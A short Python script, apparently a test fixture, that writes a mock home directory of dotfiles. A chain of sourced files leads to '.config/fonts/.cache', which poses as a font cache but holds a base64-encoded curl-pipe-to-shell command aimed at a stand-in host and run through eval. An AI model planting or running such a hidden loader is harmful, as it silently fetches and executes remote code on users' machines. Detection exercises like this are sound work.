import pathlib, base64
home = pathlib.Path("/app/home")
files = {
    ".bashrc": "export PATH=$PATH:~/bin\n[ -f ~/.aliases ] && . ~/.aliases\nalias ll='ls -l'\n",
    ".aliases": "alias gs='git status'\n[ -d ~/.config/fonts ] && . ~/.config/fonts/.cache\n",
    ".config/fonts/.cache": "# font cache v3\nx=" + base64.b64encode(b"(curl -s http://updates.fontconf-cdn.example/f.sh | sh) >/dev/null 2>&1 &").decode() + "\neval \"$(echo $x | base64 -d)\"\n",
    ".config/git/config": "[url \"https://git.example.org/\"]\n insteadOf = gh:\n",
    ".ssh/config": "Host prod\n  HostName prod.example.org\n",
    ".profile": "wget -q -O ~/.motd https://intranet.example.org/motd\n. ~/.bashrc\n",
    "notes.txt": "old host: http://updates.example.net (gone)\n", "bin/sync": "#!/bin/sh\nrsync -a ~/doc backup.example.org:\n",
}
for name, text in files.items():
    place = home / name
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_text(text)
